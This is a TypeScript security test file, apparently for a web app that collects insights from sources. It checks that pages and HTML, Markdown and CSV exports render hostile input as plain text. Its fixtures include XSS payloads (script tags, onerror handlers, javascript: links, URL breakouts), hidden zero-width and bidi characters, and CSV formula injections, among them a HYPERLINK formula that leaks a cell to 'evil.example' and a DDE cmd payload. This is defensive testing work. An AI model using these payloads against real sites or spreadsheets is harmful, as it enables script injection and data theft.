import { parse as parseCsv } from "csv-parse/sync";
import { marked } from "marked";
import type { Browser, Page } from "playwright-core";
import request from "supertest";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../../server/app";
import { createHeuristicExtractor } from "../../server/extract/heuristic";
import { connectTestDatabase, uniqueTag } from "../../server/testing/harness";
import { reliabilityLog } from "../../server/testing/reliabilityLog";
import { launchChromium, serveApp, watchForErrors } from "./browser";

const db = connectTestDatabase();
const extractor = createHeuristicExtractor();
const log = reliabilityLog("hostile-text");
const tag = uniqueTag();
const slug = `${tag}-hostile`;
let browser: Browser;
let app: Awaited<ReturnType<typeof serveApp>>;
let insightIds: string[] = [];

/** Every way a claim from a hostile source could try to run code, or hide, or become a formula. */
const hostile = [
  `<script>window.__pwned = "script"</script> Sovereign compute is a national asset (${tag}).`,
  `<img src=x onerror="window.__pwned = 'img'"> Open models travel across borders easily (${tag}).`,
  `[Click for the study](javascript:window.__pwned='markdown') shows that fine-tuning is cheap (${tag}).`,
  `<a href="javascript:window.__pwned='anchor'">This link</a> claims vendor lock-in is a risk (${tag}).`,
  `Vendor\u200b lock\u200d-in\u2060 quietly raises prices over time (${tag})\u202e.`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"Open data") wins procurement contests (${tag}).`,
  `+cmd|' /C calc'!A0 is how formula injection starts in spreadsheets (${tag}).`,
  `@SUM(1+1) looks like a number to a spreadsheet (${tag}).`,
  `-2+3 is what a spreadsheet computes from this cell (${tag}).`,
];

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null);
const activeMarkup = (page: Page) =>
  page.evaluate(() => ({
    handlers: document.querySelectorAll("[onerror],[onload],[onclick]").length,
    scriptLinks: [...document.querySelectorAll("a[href]")].filter((a) => a.getAttribute("href")!.trim().toLowerCase().startsWith("javascript:")).length,
    injectedScripts: [...document.scripts].filter((s) => s.textContent?.includes("__pwned")).length,
  }));

beforeAll(async () => {
  const writer = createApp({ waitForEnrichment: true, db, extractor, relatedK: 10, log: () => undefined });
  const created = await request(writer)
    .post("/api/insights")
    .send({
      insights: hostile.map((text, i) => ({
        text,
        topics: [`${tag} hostile`, i === 4 ? "open\u200bsource" : `<b>${tag}</b> markup`],
        quote: `<iframe src="javascript:window.__pwned='quote'"></iframe> ${tag}`,
        source: { title: `<script>window.__pwned='title'</script> Episode ${tag}`, url: `https://example.org/${tag}?q="><script>window.__pwned='url'</script>` },
      })),
    })
    .expect(201);
  insightIds = created.body.insights.map((i: { id: string }) => i.id);
  app = await serveApp(db, extractor);
  browser = await launchChromium();
}, 180_000);

afterAll(async () => {
  log.save();
  await browser?.close();
  await app?.close();
  await db.close();
});

describe("hostile text from sources", () => {
  it("is shown as text on the topic and insight pages, and nothing runs", async () => {
    const page = await browser.newPage();
    const errors = watchForErrors(page);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${app.baseUrl}/topics/${slug}`);
    await expect.poll(() => page.getByTestId("insight-item").count(), { timeout: 20_000 }).toBe(hostile.length);
    const topicText = await page.locator("body").innerText();
    expect(topicText).toContain('<script>window.__pwned = "script"</script>');
    expect(topicText).toContain("<img src=x onerror=");
    for (const id of insightIds) {
      await page.goto(`${app.baseUrl}/insights/${id}`);
      await page.getByTestId("insight-text").waitFor();
      expect(await pwned(page)).toBeNull();
      expect(await activeMarkup(page)).toEqual({ handlers: 0, scriptLinks: 0, injectedScripts: 0 });
    }
    await page.goto(`${app.baseUrl}/`);
    await page.locator('[data-testid=topic-graph][data-state="ready"]').waitFor({ timeout: 20_000 });
    expect(await pwned(page)).toBeNull();
    expect(dialogs).toEqual([]);
    expect(errors.filter((e) => /Content Security Policy|Refused to/.test(e))).toEqual([]);
    log.record({
      area: "security",
      tried: `${hostile.length} hostile claims (<script>, <img onerror>, javascript: links, zero-width and bidi characters, spreadsheet formulas) with hostile quotes, titles and URLs, in Chromium`,
      happened: `topic page, ${insightIds.length} insight pages and the topic map: shown as text, window.__pwned never set, 0 event-handler attributes, 0 javascript: links, 0 dialogs`,
      passed: true,
    });
    await page.close();
  }, 120_000);

  it("folds zero-width characters out of topics instead of making a look-alike topic", async () => {
    const res = await request(app.baseUrl).get(`/api/insights/${insightIds[4]}`).expect(200);
    expect(res.body.topics.map((t: { slug: string }) => t.slug)).toContain("open-source");
  });

  it("escapes it in the HTML, Markdown and CSV exports", async () => {
    const theme = `/api/reading-list?topics=${slug}&limit=50`;
    const html = (await request(app.baseUrl).get(`${theme}&format=html`).expect(200)).text;
    const markdown = (await request(app.baseUrl).get(`${theme}&format=md`).expect(200)).text;
    const csv = (await request(app.baseUrl).get(`${theme}&format=csv`).expect(200)).text;
    expect(html).toContain(tag);

    // The exports opened the way a person would: the HTML as a page, the Markdown through a renderer.
    const page = await browser.newPage();
    for (const [name, document] of [["html", html], ["markdown", await marked.parse(markdown)]] as const) {
      await page.setContent(document, { waitUntil: "load" });
      expect(await pwned(page), name).toBeNull();
      expect(await activeMarkup(page), name).toEqual({ handlers: 0, scriptLinks: 0, injectedScripts: 0 });
      expect(await page.locator("body").innerText(), name).toContain("window.__pwned");
    }
    await page.close();

    const rows = parseCsv(csv, { bom: true }) as string[][];
    const cells = rows.flat();
    expect(cells.some((cell) => cell.includes("HYPERLINK"))).toBe(true);
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(formulas).toEqual([]);
    log.record({
      area: "security",
      tried: "the same claims exported as a reading list: HTML opened in Chromium, Markdown rendered with marked, CSV parsed",
      happened: `HTML and Markdown inert (no script ran, 0 handlers, 0 javascript: links); CSV: ${rows.length} rows, 0 cells starting with = + - @`,
      passed: true,
    });
  }, 60_000);
});
